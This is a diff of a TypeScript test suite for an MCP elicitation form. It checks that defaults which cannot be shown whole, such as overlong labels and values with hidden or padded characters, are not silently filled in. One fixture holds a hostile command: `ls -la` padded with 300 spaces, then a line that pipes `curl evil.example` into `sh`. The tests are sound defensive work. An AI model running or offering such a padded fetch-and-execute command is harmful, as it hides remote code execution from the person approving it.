@@ -16,7 +16,6 @@ import {
   plain,
   press,
   record,
-  referred,
   schemaOf,
   show,
 } from './helpers.js';
@@ -25,13 +24,8 @@ const text = { type: 'string' };
 const command = { ...text, title: 'Command', default: `ls -la${' '.repeat(300)}; curl evil.example | sh` };
 const long = 'Keep everything private, share nothing with anybody and store no copy of it. ';
 
-const offer = (element: McpElicitation, key: string) => field(element, key).querySelector<HTMLElement>('.offer');
-const buttonIn = (element: McpElicitation, key: string) => offer(element, key)!.querySelector('button')!;
-
 /** Whether a control cuts off a part of its text. */
 const isCut = (box: Element) => box.scrollHeight > box.clientHeight + 1 || box.scrollWidth > box.clientWidth + 1;
-
-const PRESENTATIONS = ['dialog', 'inline'] as const;
 
 /** Clicks with a real mouse, as a person does who has looked at the card. */
 async function clickByMouse(element: McpElicitation, button: HTMLElement): Promise<void> {
@@ -57,105 +51,27 @@ async function click(element: McpElicitation, button: HTMLElement) {
   await element.updateComplete;
 }
 
-describe('a value that its field would not show whole', () => {
-  it('is not filled in; the field offers it with its invisible characters spelled out', async () => {
+describe('a default that its field would not show whole', () => {
+  it('is in no control and leaves with no answer; the field says that it was not filled in [MCP-08, END-22]', async () => {
     const element = await show({ schema: schemaOf({ command }) });
-    expect(control(element, 'command').value).to.equal('');
-    expect(plain(offer(element, 'command'))).to.equal(
-      'Suggested, but not filled in: ls -la⟨U+0020 ×300⟩; curl evil.example | sh Use this value',
+    expect(control<HTMLInputElement>(element, 'command').value).to.equal('');
+    expect(plain(find(element, '[part~=hint]'))).to.equal(
+      'The suggested value cannot be shown, so it is not filled in.',
     );
     expect(await accepted(element)).to.deep.equal({});
-  });
-
-  it('is sent byte for byte when the person uses it, and not after they take that back', async () => {
-    const element = await show({ schema: schemaOf({ command }) });
-    const use = buttonIn(element, 'command');
-    await click(element, use);
-    expect(use.getAttribute('aria-pressed')).to.equal('true');
-    expect(control(element, 'command').value).to.equal(command.default);
-    await click(element, use);
-    expect(use.getAttribute('aria-pressed')).to.equal('false');
-    expect(control(element, 'command').value).to.equal('');
-    await click(element, use);
-    expect(await accepted(element)).to.deep.equal({ command: command.default });
-  });
-
-  for (const presentation of PRESENTATIONS) {
-    it(`is not sent by a click on Submit of a card shown as ${presentation}, and is sent once the person has clicked on "Use this value" [SEE-01]`, async () => {
-      const untouched = await show({ schema: schemaOf({ command }), presentation });
-      expect(await acceptedByMouse(untouched)).to.deep.equal({});
-      const element = await show({ schema: schemaOf({ command }), presentation });
-      expect(plain(offer(element, 'command'))).to.contain('ls -la⟨U+0020 ×300⟩; curl evil.example | sh');
-      await clickByMouse(element, buttonIn(element, 'command'));
-      expect(await acceptedByMouse(element)).to.deep.equal({ command: command.default });
-    });
-
-    it(`can be used with the keyboard in a card shown as ${presentation} [SEE-01]`, async () => {
-      const element = await show({ schema: schemaOf({ command }), presentation });
-      const input = control(element, 'command');
-      input.focus();
-      await sendKeys({ press: 'Tab' });
-      expectFocus(element, buttonIn(element, 'command'));
-      await sendKeys({ press: 'Enter' });
-      expect(element.values).to.deep.equal({ command: command.default });
-    });
-  }
-
-  it('is in a group that names the field, and is accessible', async () => {
-    const element = await show({ schema: schemaOf({ command }) });
-    const group = offer(element, 'command')!;
-    expect(group.getAttribute('role')).to.equal('group');
-    expect(referred(element, group, 'aria-labelledby')).to.contain('Command');
     await expect(element).to.be.accessible();
   });
+});
 
-  it('is shown whole before it can be used, and focus goes to it', async () => {
-    const value = `ok${'\uFE01\uFE0E'.repeat(500)}`;
-    const element = await show({ schema: schemaOf({ name: { ...text, default: value } }) });
-    expect(plain(buttonIn(element, 'name'))).to.equal('Show all');
-    expect(offer(element, 'name')?.textContent?.length).to.be.lessThan(600);
-    await click(element, buttonIn(element, 'name'));
-    expect(offer(element, 'name')?.textContent?.match(/U\+FE0E/g)).to.have.length(500);
-    expectFocus(element, find(element, '.spelled'));
-    expect(plain(buttonIn(element, 'name'))).to.equal('Use this value');
-  });
-
-  it('is only mentioned where it is too long to be shown', async () => {
-    const element = await show({ schema: schemaOf({ name: { ...text, default: 'x'.repeat(20_000) } }) });
-    expect(plain(offer(element, 'name'))).to.equal('The suggestion is too long to be shown.');
-  });
-
-  it('of a list shows each text, and becomes chips', async () => {
-    const names = { type: 'array', items: text, default: ['fine', 'o\u200Bk'] };
-    const element = await show({ schema: schemaOf({ names }) });
-    expect([...offer(element, 'names')!.querySelectorAll('.spelled p')].map(plain)).to.deep.equal([
-      'fine',
-      'o⟨U+200B⟩k',
-    ]);
-    await click(element, buttonIn(element, 'names'));
-    expect(findAll(element, '.chip')).to.have.length(2);
-    expect(await accepted(element)).to.deep.equal({ names: names.default });
-  });
-
-  it('of a list shows some of very many short texts, and all of them at a press', async () => {
-    const items = Array.from({ length: 500 }, () => '');
-    const element = await show({
-      schema: schemaOf({ tags: { type: 'array', items: text, default: [...items, ' '] } }),
-    });
-    const shown = () => offer(element, 'tags')!.querySelectorAll('p:not(.hint)').length;
-    expect(shown()).to.be.lessThan(30);
-    expect(plain(buttonIn(element, 'tags'))).to.equal('Show all');
-    await click(element, buttonIn(element, 'tags'));
-    expect(shown()).to.equal(501);
-    expect(plain(buttonIn(element, 'tags'))).to.equal('Use this value');
-  });
-
-  it('of a secret appears nowhere before the person asks for it [END-19]', async () => {
-    const element = await show({ schema: schemaOf({ api_key: { ...text, default: 'sk-\u200B1234' } }) });
-    expect(element.shadowRoot?.innerHTML).to.not.include('sk-');
-    expect(plain(buttonIn(element, 'api_key'))).to.equal('Show');
-    await click(element, buttonIn(element, 'api_key'));
-    expect(plain(find(element, '.spelled'))).to.equal('sk-⟨U+200B⟩1234');
+describe('an option with a label over 1 KiB', () => {
+  it('is not among those to choose from; the field counts it [SEE-01]', async () => {
+    const options = [
+      { const: 'a', title: 'word '.repeat(300) },
+      { const: 'b', title: 'B' },
+    ];
+    const element = await show({ schema: schemaOf({ plan: { title: 'Plan', oneOf: options } }) });
+    expect(plain(find(element, '[part~=hint]'))).to.equal('Options that cannot be shown: 1');
+    expect(findAll<HTMLInputElement>(element, 'input').map(({ value }) => value)).to.deep.equal(['b', '']);
   });
 });
 
@@ -235,7 +151,7 @@ describe('a fixed value with a part that hides', () => {
   it('makes a form that cannot be sent, and says why', async () => {
     const element = await show({ schema });
     expect(plain(find(element, '[part~=warning-unsupported]'))).to.equal(
-      'A part of this value would stay hidden: read⟨U+200B U+E0061⟩ This form cannot be submitted.',
+      'This cannot be shown here. This form cannot be submitted.',
     );
     expect(plain(find(element, '[part~=actions] p'))).to.equal('This form cannot be submitted.');
     expect(await accepted(element)).to.equal(undefined);
